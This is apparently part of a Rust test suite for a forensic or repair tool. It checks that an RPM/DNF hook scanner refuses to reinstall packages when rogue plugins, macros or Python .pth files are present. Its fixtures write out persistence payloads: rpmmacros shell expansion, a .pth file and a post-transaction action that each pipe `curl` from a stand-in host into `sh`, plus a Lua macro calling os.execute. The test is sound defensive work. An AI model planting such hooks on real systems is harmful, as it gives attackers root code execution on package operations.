put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'evil pyc'
ok pycache
put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'pyc'
put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled = 1'
ok yumplugin; put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled=0'
put etc/yum.conf $'[main]\npluginpath=/usr/lib/yum-plugins,/var/tmp/.p'
ok pluginpath; undo etc/yum.conf
put etc/dnf/dnf.conf $'[main]\nPluginConfPath=/usr/lib/python3.9/../../../tmp/site-packages/dnf-plugins'
ok confpath; put etc/dnf/dnf.conf $'[main]\ngpgcheck=1'
put etc/yum.conf $'[main]\ninclude=file:///var/tmp/.p/yum.conf'
ok include; undo etc/yum.conf
put etc/rpm/macros.zz '%__transaction_zz /var/tmp/.x/zz.so'
ok rpmplugin; undo etc/rpm/macros.zz
put root/.rpmmacros '%_dbpath %(curl -s http://127.66.1.1/x|sh)/var/lib/rpm'
ok shellexpansion; undo root/.rpmmacros
put etc/rpm/macros.lua '%_netsharedpath %{lua: os.execute("id")}'
ok lua; undo etc/rpm/macros.lua
put etc/rpm/macros.dbpath '%_dbpath /var/lib/rpm'
put etc/rpm/macros.db '%_dbpath /var/tmp/.r'
ok dbpath; undo etc/rpm/macros.db
put usr/lib/python3.9/site-packages/zz.pth 'import os; os.system("curl -s http://127.66.1.1/x|sh")'
ok pth; undo usr/lib/python3.9/site-packages/zz.pth
put usr/lib/python3.9/site-packages/paths.pth '/opt/app/lib'
put usr/lib64/python3.9/sitecustomize.py 'import os'
ok sitecustomize; undo usr/lib64/python3.9/sitecustomize.py
put etc/dnf/plugins/post-transaction-actions.d/x.action '*:any:/bin/sh -c "curl -s http://127.66.1.1/x|sh"'
ok action; undo etc/dnf/plugins/post-transaction-actions.d/x.action
ok cleanagain
"#;
    let (rc, out) = bash(dir.path(), body);
    assert_eq!(rc, 0, "{out}");
    for want in ["clean: ok", "cleanagain: ok"] {
        assert!(out.contains(want), "{want}:\n{out}");
    }
    for (case, why) in [
        ("dnfplugin", "aaa.py"),
        ("pycache", "builddep.cpython-39.pyc"),
        ("yumplugin", "/usr/lib/yum-plugins/evil.py"),
        ("pluginpath", "/etc/yum.conf points"),
        ("confpath", "/etc/dnf/dnf.conf points"),
        ("include", "/etc/yum.conf includes"),
        ("rpmplugin", "/etc/rpm/macros.zz"),
        ("shellexpansion", "/root/.rpmmacros"),
        ("lua", "/etc/rpm/macros.lua"),
        ("dbpath", "/etc/rpm/macros.db"),
        ("pth", "/usr/lib/python3.9/site-packages/zz.pth"),
        ("sitecustomize", "/usr/lib64/python3.9/sitecustomize.py"),
        ("action", "post-transaction action file"),
    ] {
        assert!(
            out.lines()
                .any(|l| l.starts_with(&format!("{case}: refused")) && l.contains(why)),
            "{case}:\n{out}"
        );
    }
    // The reinstall on an rpm host refuses with such a hook and runs no package manager.
    let dir = tempfile::tempdir().unwrap();
    let bench = reinstall_bench_with(
        "",
        "mt_rpm_hooks_ok() { MT_NOTE='a dnf or yum plugin no package vouches for (/x.py) would run as root'; return 1; }\ndnf() { echo \"dnf $*\" >>calls; }\nyum() { echo \"yum $*\" >>calls; }",
    )
    .replace("MT_PM=dpkg", "MT_PM=rpm");
    let (_, out) = bash(dir.path(), &bench);
    assert!(
        out.contains("rc=1 a dnf or yum plugin no package vouches for (/x.py) would run as root: a reinstall would run it"),
        "{out}"
    );
    assert!(calls(dir.path()).is_empty(), "{}", calls(dir.path()));
    // Without one, dnf reinstalls with its plugins off.
    let dir = tempfile::tempdir().unwrap();
    let bench = reinstall_bench_with(
        "",
        "mt_rpm_hooks_ok() { return 0; }\ndnf() { echo \"dnf $*\" >>calls; }",
    )
    .replace("MT_PM=dpkg", "MT_PM=rpm");
    let (_, out) = bash(dir.path(), &bench);
    assert!(out.contains("rc=0 package reinstalled"), "{out}");
    assert_eq!(
        calls(dir.path()).trim(),
        "dnf reinstall -y --noplugins openssh-server"
    );
}

/// One list (review of train 2, item 10): every place `mt_rpm_hooks_ok` reads (each `"$r"` pattern)
/// is a place the collector stores (`locations::PACKAGE_MANAGER_HOOK_PLACES`: the same pattern, or
/// under a directory stored deep enough), so the bundle holds what made a reinstall refuse.
#[test]
fn every_place_the_rpm_hook_check_reads_is_one_the_collector_stores() {
    let t = super::script::TEMPLATE;
    let start = t.find("\nmt_rpm_hooks_ok() {").expect("the function");
    let body = &t[start..];
    let body = &body[..body.find("\n}\n").expect("its end")];
    let mut patterns: Vec<String> = Vec::new();
    for (i, _) in body.match_indices("\"$r") {
        let rest = &body[i + 3..];
        let (quoted, rest) = match rest.strip_prefix('"') {
            Some(r) => (false, r),
            None => (true, rest),
        };
        let end = rest
            .find(|c: char| {
                if quoted {
                    c == '"'
                } else {
                    c.is_whitespace() || c == ';'
                }
            })
            .unwrap_or(rest.len());
        let p = &rest[..end];
        if p.starts_with('/') {
            patterns.push(p.to_owned());
        }
    }
    assert!(patterns.len() >= 20, "{patterns:?}");
    let places = minetrace_schemas::locations::PACKAGE_MANAGER_HOOK_PLACES;
    for p in &patterns {
        let covered = places.iter().any(|(place, depth)| {
            let place = std::str::from_utf8(place).expect("ASCII");
            p == place
                || (*depth > 0
                    && p.strip_prefix(place).is_some_and(|r| {
                        r.starts_with('/') && r.matches('/').count() <= *depth as usize
                    }))
        });
        assert!(
            covered,
            "{p} is read by mt_rpm_hooks_ok but not stored by the collector"
        );
    }
}
